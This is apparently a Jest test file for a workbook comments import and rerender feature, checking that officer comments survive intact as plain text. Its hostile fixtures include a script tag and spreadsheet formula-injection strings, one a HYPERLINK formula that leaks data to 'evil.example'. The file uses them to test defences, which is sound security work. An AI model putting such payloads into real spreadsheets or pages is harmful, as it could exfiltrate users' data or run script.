import ExcelJS from 'exceljs';
import * as XLSX from 'xlsx';
import { UserError } from '../../../functions/core/errors';
import { renderReportHtml } from '../../../functions/core/render/html';
import { buildPackView } from '../../../functions/core/render/view-model';
import { importCommentsFromWorkbook, MAX_COMMENT_LENGTH } from '../../../functions/core/render/import-comments';
import { renderWorkbook } from '../../../functions/core/render/workbook';
import { examplePack, exampleMeta, HOSTILE } from '../../fixtures/pack/example-pack';
import { textOf } from './html-cells';
import { fillCommentCells, readWithSheetJs, sheetOf, withComments, zipEntryText } from './workbook-helpers';

/** What the example pack already holds as supplied (not drafted) comments. */
const SUPPLIED = {
  performance: examplePack().sections[0].comments.performance.text,
  service: examplePack().sections[0].comments.service.text,
  hy64: examplePack().sections[0].indicators[5].comment,
};

describe('comments round trip: fill the workbook, import, rerender', () => {
  const officer = {
    'comment:section:child-protection:service': HOSTILE.hyperlink,
    'comment:section:cp-reviews-visits:performance':
      `${HOSTILE.script}\r\nReviews fell ` + 'to 88% as two conferences moved.',
    'comment:section:cp-reviews-visits:service': HOSTILE.atSum,
    'comment:indicator:OP380': HOSTILE.plusOne,
    'comment:indicator:Op367': HOSTILE.minusTwo,
  };

  it('imports exactly what the officer wrote, and the pack shows it as text', async () => {
    const returned = await fillCommentCells(await renderWorkbook(examplePack(), exampleMeta), officer);
    const comments = await importCommentsFromWorkbook(returned, { period: '2013-11' });
    expect(comments).toEqual({
      sections: {
        'child-protection': { performance: SUPPLIED.performance, service: HOSTILE.hyperlink },
        'cp-reviews-visits': {
          performance: `${HOSTILE.script}\nReviews fell to 88% as two conferences moved.`,
          service: HOSTILE.atSum,
        },
      },
      indicators: { HY64: SUPPLIED.hy64, OP380: HOSTILE.plusOne, Op367: HOSTILE.minusTwo },
    });

    const pack = withComments(examplePack(), comments);
    const html = renderReportHtml(pack, exampleMeta);
    expect(html).not.toContain('<script');
    const page = textOf(html);
    for (const text of [
      HOSTILE.hyperlink,
      HOSTILE.script,
      HOSTILE.atSum,
      `Comment on OP380: ${HOSTILE.plusOne}`,
      `Comment on Op367: ${HOSTILE.minusTwo}`,
    ])
      expect(page).toContain(text);
    expect(html).not.toContain('<span class="draft-badge">');

    // In the rerendered workbook every comment is a plain string cell, never a formula.
    const rerendered = await renderWorkbook(pack, exampleMeta);
    const sheet = sheetOf(readWithSheetJs(rerendered), 'Pack');
    const cells = Object.values(sheet).filter(
      (cell): cell is XLSX.CellObject => typeof cell === 'object' && cell !== null && 't' in cell,
    );
    for (const text of [HOSTILE.hyperlink, HOSTILE.atSum, HOSTILE.plusOne, HOSTILE.minusTwo]) {
      const cell = cells.find((c) => c.v === text);
      expect(cell).toMatchObject({ t: 's', z: '@' });
      expect(cell?.f).toBeUndefined();
    }
    expect(cells.some((c) => c.f !== undefined)).toBe(false);
    // Importing the rerendered workbook gives the same comments again.
    expect(await importCommentsFromWorkbook(rerendered)).toEqual(comments);
  });

  it('writes comment text as shared strings in the sheet XML, with no formula element', async () => {
    const returned = await fillCommentCells(await renderWorkbook(examplePack(), exampleMeta), officer);
    const rerendered = await renderWorkbook(
      withComments(examplePack(), await importCommentsFromWorkbook(returned)),
      exampleMeta,
    );
    const sheetXml = zipEntryText(rerendered, 'xl/worksheets/sheet1.xml');
    expect(sheetXml).not.toContain('<f>');
    expect(sheetXml).not.toContain('HYPERLINK');
    const strings = zipEntryText(rerendered, 'xl/sharedStrings.xml');
    expect(strings).toContain('<t>=HYPERLINK(&quot;http://evil.example/?leak&quot;,&quot;Click me&quot;)</t>');
    expect(strings).toContain('<t>@SUM(A1:A9)</t>');
  });
});

describe('importCommentsFromWorkbook', () => {
  it('takes nothing from drafts left as drafted or from placeholders', async () => {
    const comments = await importCommentsFromWorkbook(await renderWorkbook(examplePack(), exampleMeta));
    expect(comments).toEqual({
      sections: { 'child-protection': { performance: SUPPLIED.performance, service: SUPPLIED.service } },
      indicators: { HY64: SUPPLIED.hy64 },
    });
  });

  it(
    'treats a draft with only its line breaks or spaces ' +
      'changed as unchanged, and an edited draft as the officer’s',
    async () => {
      // The draft as shown: its sentences composed into one paragraph (comments-view.ts).
      const draft = buildPackView(examplePack(), exampleMeta).sections[1].performance.text;
      const key = 'comment:section:cp-reviews-visits:performance';
      const rewrapped = await fillCommentCells(await renderWorkbook(examplePack(), exampleMeta), {
        [key]: draft.replace(/ /g, '\n  '),
      });
      expect((await importCommentsFromWorkbook(rewrapped)).sections?.['cp-reviews-visits']).toBeUndefined();
      const edited = await fillCommentCells(await renderWorkbook(examplePack(), exampleMeta), {
        [key]: `${draft} Two were late by a day.`,
      });
      expect((await importCommentsFromWorkbook(edited)).sections?.['cp-reviews-visits']).toEqual({
        performance: `${draft} Two were late by a day.`,
      });
    },
  );

  it('finds comment cells by marker after the officer inserts rows', async () => {
    const returned = await fillCommentCells(
      await renderWorkbook(examplePack(), exampleMeta),
      { 'comment:indicator:OP381': 'CIN visits back on track.' },
      (sheet) => {
        sheet.spliceRows(8, 0, ['', 'my notes'], ['', 'more notes']);
      },
    );
    expect((await importCommentsFromWorkbook(returned)).indicators?.OP381).toBe('CIN visits back on track.');
  });

  it(`refuses a comment longer than ${MAX_COMMENT_LENGTH} characters, naming where it is`, async () => {
    const returned = await fillCommentCells(await renderWorkbook(examplePack(), exampleMeta), {
      'comment:indicator:HY64': 'x'.repeat(MAX_COMMENT_LENGTH + 1),
    });
    await expect(importCommentsFromWorkbook(returned)).rejects.toThrow(UserError);
    await expect(importCommentsFromWorkbook(returned)).rejects.toThrow(
      /sheet "Pack", row 11 is 5,001 characters long; the limit is 5,000/,
    );
    const atLimit = await fillCommentCells(await renderWorkbook(examplePack(), exampleMeta), {
      'comment:indicator:HY64': 'x'.repeat(MAX_COMMENT_LENGTH),
    });
    expect((await importCommentsFromWorkbook(atLimit)).indicators?.HY64).toHaveLength(MAX_COMMENT_LENGTH);
  });

  it('refuses a workbook that has no comment markers', async () => {
    const other = new ExcelJS.Workbook();
    other.addWorksheet('Pack').getCell('B2').value = 'Comment';
    const buffer = Buffer.from(await other.xlsx.writeBuffer());
    await expect(importCommentsFromWorkbook(buffer)).rejects.toThrow(UserError);
    await expect(importCommentsFromWorkbook(buffer)).rejects.toThrow(/no comment cells marked by indicator-pack/);
  });

  it('refuses a file that is not a workbook', async () => {
    await expect(importCommentsFromWorkbook(Buffer.from('period,comment\n2013-11,hello\n'))).rejects.toThrow(
      /not a readable \.xlsx file/,
    );
  });

  it('refuses the workbook of another month', async () => {
    const buffer = await renderWorkbook(examplePack(), exampleMeta);
    await expect(importCommentsFromWorkbook(buffer, { period: '2013-12' })).rejects.toThrow(
      'The comments workbook is the pack for 2013-11, not 2013-12',
    );
  });
});
